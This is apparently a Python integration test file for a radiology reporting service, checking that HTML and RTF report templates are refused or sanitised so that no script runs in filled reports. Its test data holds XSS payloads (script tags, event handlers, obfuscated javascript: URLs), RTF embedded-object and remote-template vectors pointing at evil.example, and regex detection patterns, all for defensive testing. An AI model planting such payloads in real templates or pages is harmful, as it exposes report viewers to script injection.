"""Reports carry no active content (issue 11), end to end.

An own HTML or RTF template holding more than formatting is refused when
saved (400 INVALID_TEMPLATE naming what would be removed; nothing stored);
a hostile template already in the database (as one saved before the rule
would be) and one sent with an External API job are sanitised when filled,
so no script, event handler or javascript: URL reaches reportHtml or
filledTemplate of a web or an External API job; dictated markup comes out
escaped; and the library's HTML and RTF templates fill exactly as before:
each placeholder replaced by the section's encoded text, nothing else
changed (docs/templates.md, "What a template may hold")."""

import os
import re
import time
import unittest

from harness import REPO, SharedDataDirTest, admin_ok, db_exec, db_query
from jobs_helpers import REPORT, TEXT_TIMEOUT_S, post_form, report_fields, wait_job, web_job
from web_helpers import WebClient, make_user

V1 = "/api/v1"
SERVER_ARGS = ["--workers", "2", "--rate-limit", "100000"]
BRAIN_CT = "803910"     # CT, brain (data/sut/known-codes.csv)
LUMBAR_MR = "804102"    # MR, lumbar_spine
PLACEHOLDER_OF = {"findings": "BULGULAR", "conclusion": "SONUC", "impression": "IZLENIM",
                  "technique": "TEKNIK", "clinical": "KLINIK", "comparison": "KARSILASTIRMA"}

# Dictation with markup of its own, which must come out as text.
EN_DICTATION = ("clinical information colon headache period technique colon axial images "
                "period comparison colon none period findings colon <script>alert(1)</script> "
                "a 5 mm lesion & <img src=x onerror=alert(2)> period conclusion colon "
                "{{SONUC}} normal period impression colon no acute finding period")
TR_DICTATION = ("bulgular iki nokta şüpheli <b>lezyon</b> & {x} yok nokta "
                "sonuç iki nokta olağan çalışma nokta")

HOSTILE_HTML = (
    '<p onclick="alert(1)"><b>CLINICAL:</b> {{KLINIK}}</p>'
    '<script>alert(2)</script>'
    '<p><img src=x onerror=alert(3)>TECHNIQUE: {{TEKNIK}}</p>'
    '<p>COMPARISON: <a href="jav&#x61;script:alert(4)">{{KARSILASTIRMA}}</a></p>'
    '<p style="background:url(javascript:alert(5))">FINDINGS: {{BULGULAR}}</p>'
    '<svg onload=alert(6)></svg><iframe src="javascript:alert(7)"></iframe>'
    '<P>CONCLUSION: {{SONUC}}</P><p>IMPRESSION: <span onmouseover="alert(8)">{{IZLENIM}}</span>'
    '</p><!-- <script>alert(9)</script> -->')
SANITISED_HTML = (
    '<p><b>CLINICAL:</b> {{KLINIK}}</p>'
    '<p>TECHNIQUE: {{TEKNIK}}</p>'
    '<p>COMPARISON: {{KARSILASTIRMA}}</p>'
    '<p>FINDINGS: {{BULGULAR}}</p>'
    '<p>CONCLUSION: {{SONUC}}</p><p>IMPRESSION: <span>{{IZLENIM}}</span></p>')
HOSTILE_RTF = (
    '{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}'
    '{\\field{\\*\\fldinst HYPERLINK "javascript:alert(1)"}{\\fldrslt click}}'
    '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}'
    '{\\*\\template http://evil.example/t.dotm}'
    '{\\pict\\pngblip 89504e47}'
    '\\b FINDINGS:\\b0\\par {{BULGULAR}}\\par CONCLUSION:\\par \\{\\{SONUC\\}\\}\\par}')
SANITISED_RTF = ('{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}'
                 '\\b FINDINGS:\\b0\\par {{BULGULAR}}\\par CONCLUSION:\\par \\{\\{SONUC\\}\\}\\par}')

# What a report must never carry: in HTML, markup that runs or loads
# anything; in RTF, fields, objects, pictures and remote templates. (Dictated
# text is text: escaped in HTML, while in RTF "<script>" is only letters.)
ACTIVE = {
    "html": [re.compile(p, re.I) for p in (r"<script", r"<[^>]*\son[a-z]+\s*=", r"javascript:",
                                           r"<(iframe|svg|img|object|embed|a|style)\b",
                                           r"style\s*=", r"<!--")],
    "rtf": [re.compile(p) for p in (r"\\field", r"\\fldinst", r"\\object", r"\\objdata",
                                    r"\\pict", r"\\template", r"javascript:", r"HYPERLINK")],
}


# ---- what the fill does, written again from docs/api.md -------------------------------------

def encode_html(text):
    table = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;", "\n": "<br>",
             "\r": ""}
    return "".join(table.get(ch, ch) for ch in text)


def rtf_unicode(ch):
    data = ch.encode("utf-16-le")
    units = [int.from_bytes(data[i:i + 2], "little") for i in range(0, len(data), 2)]
    return "".join("\\u%d?" % (u - 65536 if u > 32767 else u) for u in units)


def encode_rtf(text):
    out = []
    for ch in text:
        c = ord(ch)
        if c >= 0x80:
            out.append(rtf_unicode(ch))
        elif ch in "\\{}":
            out.append("\\" + ch)
        elif ch == "\n":
            out.append("\\par\n")
        elif ch == "\t":
            out.append("\\tab ")
        elif c >= 0x20 and c != 0x7F:
            out.append(ch)
    return "".join(out)


def fill(template, fmt, sections):
    """template with every placeholder replaced, in one pass, by its
    section's text encoded for fmt ("html" or "rtf")."""
    names = "|".join(PLACEHOLDER_OF.values())
    by_name = {PLACEHOLDER_OF[k]: v for k, v in sections.items()}
    encode = encode_html if fmt == "html" else encode_rtf
    if fmt == "rtf":
        pattern = re.compile(r"\\\{\\\{(%s)\\\}\\\}|\{\{(%s)\}\}" % (names, names))
    else:
        pattern = re.compile(r"\{\{(%s)\}\}" % names)
    out, at = [], 0
    for m in pattern.finditer(template):
        own = template[at:m.start()]
        out.append("".join(rtf_unicode(ch) if ord(ch) >= 0x80 else ch for ch in own)
                   if fmt == "rtf" else own)
        name = m.group(1) or m.group(m.lastindex)
        out.append(encode(by_name.get(name, "")))
        at = m.end()
    out.append(template[at:])
    return "".join(out)


def library_file(name):
    with open(os.path.join(REPO, "data", "templates", name), encoding="utf-8") as f:
        return f.read()


class TemplateSanitizing(SharedDataDirTest):
    """One organization: a manager (whose own templates are the
    organization's), a radiologist, and an External API key."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.srv = cls.start_server(SERVER_ARGS)
        cls.org = admin_ok(cls.data, "create-org", "--name", "Temiz Şablon Hastanesi",
                           "--credits", "100")
        cls.manager = "manager-sanitize@example.org"
        cls.radiologist = "rad-sanitize@example.org"
        make_user(cls.data, "manager", cls.manager, cls.org)
        make_user(cls.data, "radiologist", cls.radiologist, cls.org)
        cls.key = admin_ok(cls.data, "create-key", "--email", cls.manager, "--name", "HBYS")

    def signed_in(self, email):
        client = WebClient(self.srv)
        client.must_login("corporate", email)
        return client

    def templates_in_db(self):
        return db_query(self.data, "SELECT id, name, format, content, updated_at FROM"
                        " user_templates ORDER BY id")

    def assertInert(self, text, fmt, what):
        self.assertIsNotNone(text, what)
        for pattern in ACTIVE[fmt]:
            self.assertIsNone(pattern.search(text), "%s carries %s:\n%s"
                              % (what, pattern.pattern, text))

    def save_then_tamper(self, client, content, fmt, **fields):
        """An own template saved harmless, then given content in the
        database, as a template saved before the rule would be."""
        harmless = "{{BULGULAR}}" if fmt != "rtf" else "{\\rtf1 {{BULGULAR}}}"
        body = {"name": "Eski şablon %s" % time.monotonic_ns(), "format": fmt,
                "content": harmless, "language": "en"}
        body.update(fields)
        reply = client.post(V1 + "/templates", body)
        self.assertEqual(reply.status, 201, reply.body)
        template_id = reply.json()["id"]
        db_exec(self.data, "UPDATE user_templates SET content = '%s' WHERE id = '%s'"
                % (content.replace("'", "''"), template_id))
        self.assertEqual(client.get(V1 + "/templates/" + template_id).json()["content"], content)
        return template_id

    def web_job(self, client, code, transcript, lang, template_id=None):
        done = web_job(self, client, code, transcript, inputLang=lang, outputLang=lang,
                       templateId=template_id)
        self.assertEqual(done["status"], "completed", done)
        return done

    def api_job(self, code, transcript, lang, **template):
        reply = post_form(self.srv, REPORT, report_fields(None, sut=code, lang=lang,
                                                          transcript=transcript, **template),
                          self.key)
        self.assertEqual(reply.status, 202, reply.body)
        done = wait_job(self, self.srv, self.key, reply.json()["pollUrl"], TEXT_TIMEOUT_S)
        self.assertEqual(done["status"], "completed", done)
        return done

    # ---- saving ------------------------------------------------------------------------------

    def test_saving_a_hostile_template_is_refused_and_stores_nothing(self):
        c = self.signed_in(self.radiologist)
        reply = c.post(V1 + "/templates", {"name": "Temiz", "format": "html",
                                           "content": "<p><b>Bulgular:</b> {{BULGULAR}}</p>"})
        self.assertEqual(reply.status, 201, reply.body)
        kept = reply.json()["id"]
        cases = [
            ("html", "<p>{{BULGULAR}}</p><script>alert(1)</script>",
             "element <script> is not allowed"),
            ("html", "<p onclick=\"alert(1)\">{{BULGULAR}}</p>",
             "attribute onclick is not allowed"),
            ("html", "<P ONMOUSEOVER=alert(1)>{{BULGULAR}}</P>",
             "attribute onmouseover is not allowed"),
            ("html", "<a href=\"jav&#x61;script:alert(1)\">{{BULGULAR}}</a>",
             "element <a> is not allowed"),
            ("html", "<img src=x onerror=alert(1)>{{BULGULAR}}", "element <img> is not allowed"),
            ("html", "<svg onload=alert(1)></svg>{{BULGULAR}}", "element <svg> is not allowed"),
            ("html", "<p style=\"width:expression(alert(1))\">{{BULGULAR}}</p>",
             "attribute style is not allowed"),
            ("html", "<iframe src=\"data:text/html,x\"></iframe>{{BULGULAR}}",
             "element <iframe> is not allowed"),
            ("html", "<!-- x -->{{BULGULAR}}", "a comment is not allowed"),
            ("rtf", "{\\rtf1 {\\field{\\*\\fldinst HYPERLINK \"http://x\"}{\\fldrslt a}}"
                    "{{BULGULAR}}}", "control word \\field is not allowed"),
            ("rtf", "{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}{{BULGULAR}}}",
             "control word \\object is not allowed"),
            ("rtf", "{\\rtf1 {\\*\\template http://x/t.dotm}{{BULGULAR}}}",
             "destination \\*\\template is not allowed"),
            ("rtf", "{\\rtf1 {\\pict\\pngblip 89}\\bin2 ab{{BULGULAR}}}",
             "control word \\pict is not allowed"),
        ]
        before = self.templates_in_db()
        for fmt, content, named in cases:
            body = {"name": "Zararlı", "format": fmt, "content": content}
            with self.subTest(content=content):
                for reply in (c.post(V1 + "/templates", body),
                              c.put(V1 + "/templates/" + kept, body)):
                    self.assertEqual(reply.status, 400, reply.body)
                    error = reply.json()["error"]
                    self.assertEqual(error["code"], "INVALID_TEMPLATE")
                    self.assertEqual(error["field"], "content")
                    self.assertIn(named, error["message"])
                    self.assertTrue(error["message"].startswith("A template may hold formatting"
                                                                " only"), error["message"])
        self.assertEqual(self.templates_in_db(), before)
        self.assertEqual(c.get(V1 + "/templates/" + kept).json()["content"],
                         "<p><b>Bulgular:</b> {{BULGULAR}}</p>")
        # Formatting alone is saved as it was written.
        tidy = ("<h2 align=\"center\">BT</h2><table border=\"1\"><tr><td colspan=\"2\">"
                "<strong>{{BULGULAR}}</strong></td></tr></table><ul><li><em>{{SONUC}}</em></li>"
                "</ul>")
        reply = c.post(V1 + "/templates", {"name": "Biçimli", "format": "html", "content": tidy})
        self.assertEqual(reply.status, 201, reply.body)
        self.assertEqual(reply.json()["content"], tidy)

    # ---- filling -----------------------------------------------------------------------------

    def test_an_old_hostile_template_is_sanitised_in_web_and_external_api_jobs(self):
        mgr = self.signed_in(self.manager)
        self.save_then_tamper(mgr, HOSTILE_HTML, "html", modality="CT", bodyPart="brain")
        # The organization's template shapes every member's web job ...
        web = self.web_job(self.signed_in(self.radiologist), BRAIN_CT, EN_DICTATION, "en")
        self.assertEqual(web["templateUsed"], "matched", web)
        self.assertEqual(web["reportHtml"], fill(SANITISED_HTML, "html", web["sections"]))
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", web["reportHtml"])
        self.assertInert(web["reportHtml"], "html", "reportHtml")
        # ... and the organization's External API jobs, the same way.
        api = self.api_job(BRAIN_CT, EN_DICTATION, "en")
        self.assertEqual(api["templateUsed"], "matched", api)
        self.assertEqual(api["reportHtml"], web["reportHtml"])
        self.assertIsNone(api["filledTemplate"])

    def test_a_hostile_template_chosen_for_a_job_or_sent_with_one_is_sanitised(self):
        c = self.signed_in(self.radiologist)
        for content, fmt, sanitised in ((HOSTILE_HTML, "html", SANITISED_HTML),
                                        (HOSTILE_RTF, "rtf", SANITISED_RTF)):
            with self.subTest(format=fmt):
                # An own template saved before the rule, chosen for a web job.
                template_id = self.save_then_tamper(c, content, fmt)
                web = self.web_job(c, LUMBAR_MR, EN_DICTATION, "en", template_id)
                self.assertEqual(web["templateUsed"], "custom", web)
                self.assertEqual(web["filledTemplate"], fill(sanitised, fmt, web["sections"]))
                self.assertInert(web["filledTemplate"], fmt, "filledTemplate")
                self.assertInert(web["reportHtml"], "html", "reportHtml")
                # The same template sent with an External API job: accepted,
                # and filled the same way.
                api = self.api_job(LUMBAR_MR, EN_DICTATION, "en", templateContent=content,
                                   templateFormat=fmt)
                self.assertEqual(api["templateUsed"], "custom", api)
                self.assertEqual(api["filledTemplate"], web["filledTemplate"])
                self.assertInert(api["reportHtml"], "html", "reportHtml")

    def test_library_templates_fill_exactly_as_before(self):
        c = self.signed_in(self.radiologist)
        # The library's HTML template of the exam shapes reportHtml.
        done = self.web_job(c, LUMBAR_MR, EN_DICTATION, "en")
        self.assertEqual(done["templateUsed"], "matched", done)
        self.assertEqual(done["reportHtml"],
                         fill(library_file("en/mr-lumbar-spine.html"), "html", done["sections"]))
        # Chosen for another exam, each HTML and RTF template is filled as
        # it is written.
        for template_id, name, lang, transcript in (
                ("lib:en-mr-lumbar-spine", "en/mr-lumbar-spine.html", "en", EN_DICTATION),
                ("lib:tr-akciger-grafisi", "tr/akciger-grafisi.html", "tr", TR_DICTATION),
                ("lib:tr-mr-lomber", "tr/mr-lomber.rtf", "tr", TR_DICTATION),
                ("lib:en-us-abdomen", "en/us-abdomen.rtf", "en", EN_DICTATION)):
            with self.subTest(template=template_id):
                done = self.web_job(c, BRAIN_CT, transcript, lang, template_id)
                self.assertEqual(done["templateUsed"], "custom", done)
                fmt = name.rsplit(".", 1)[1]
                self.assertEqual(done["filledTemplate"],
                                 fill(library_file(name), fmt, done["sections"]))


if __name__ == "__main__":
    unittest.main()
